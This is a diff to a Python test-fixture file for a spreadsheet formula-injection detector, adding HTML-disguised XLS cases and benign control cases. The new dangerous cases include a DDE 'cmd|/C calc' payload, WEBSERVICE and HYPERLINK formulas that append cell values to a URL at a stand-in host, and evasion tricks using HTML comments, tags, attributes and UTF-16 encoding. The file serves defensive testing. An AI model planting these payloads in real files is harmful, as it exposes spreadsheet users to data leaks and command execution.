@@ -12,6 +12,10 @@ def _case(name: str, text: str | bytes, *reasons: str) -> FileCase:
     return FileCase(name, lambda: data, frozenset(f"formula_{reason}" for reason in reasons))
 
 
+def _page(*cells: str) -> str:
+    return f"<table><tr>{''.join(f'<td>{cell}</td>' for cell in cells)}</tr></table>"
+
+
 _DANGEROUS: Final = (
     _case("program.csv", f"a,b\n1,{_EXCEL}\n", "program"),
     _case("program-quoted.csv", f'a,b\n1,"{_EXCEL}"\n', "program"),
@@ -43,6 +47,13 @@ _DANGEROUS: Final = (
     _case("importxml.csv", '=IMPORTXML(CONCAT("http://a.example/",A1),"//a"),1\n', "call"),
     _case("importdata-in-small.csv", 'a,b\n1,=importdata("http://a.example")\n', "call"),
     _case("image.csv", 'a;b\n1;=IF(1,IMAGE("http://a.example/a.png"),2)\n', "call"),
+    _case("program-in-a-page.xls", _page("1", _EXCEL), "program"),
+    _case("program-in-a-page-in-utf-16.xls", _page(_EXCEL).encode("utf-16"), "program"),
+    _case("program-in-a-page-in-unmarked-utf-16.xls", _page(_EXCEL).encode("utf-16-le"), "program"),
+    _case("program-among-tags.xls", "\n" + _page("&#61;<b>cmd</b>\n|'/C calc'!A0"), "program"),
+    _case("call-in-a-page.xls", _page('=IF(1,<!-- > -->WEB<i></i>SERVICE("http://a.example/"))'), "call"),
+    _case("link-in-a-page.xls", _page("<!-- ", '=HYPERLINK("http://a.example/?"&amp;A1)'), "link"),
+    _case("program-in-an-attribute.xls", f'<html><td x:fmla="{_EXCEL}">1</td></html>', "program"),
     _case("link.csv", 'a,b\n1,"=HYPERLINK(""http://a.example/?""&A1,""Click"")"\n', "link"),
     _case("link-plus.csv", 'a,b\n1,"+HYPERLINK(""http://a.example"")"\n', "link"),
 )
@@ -63,6 +74,10 @@ _HONEST: Final = (
     _case("unmarked-big-endian.csv", "a;b\n-1;5 €\n".encode("utf-16-be")),
     _case("separator-told.csv", 'sep=;\na;b\n-1;"=SUM(A1;B1)"\nsep=^;a^=cmd|x\n'),
     _case("separator-of-its-own.csv", "sep=^\na^b|c\n-1^=SUM(A1,B1)\n"),
+    _case(
+        "report.xls", "<html><style>@page {margin: 1in}</style>" + _page("-1", "=A1+B1", '<a href="https://b.c">=</a>')
+    ),
+    _case("talk-of-pages.csv", f"a,b\n1,{_page('HYPERLINK(x)')}\n"),
     _case("open-quote.csv", 'size,name\n5",desk\n-1,"x\n'),
 )
 CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
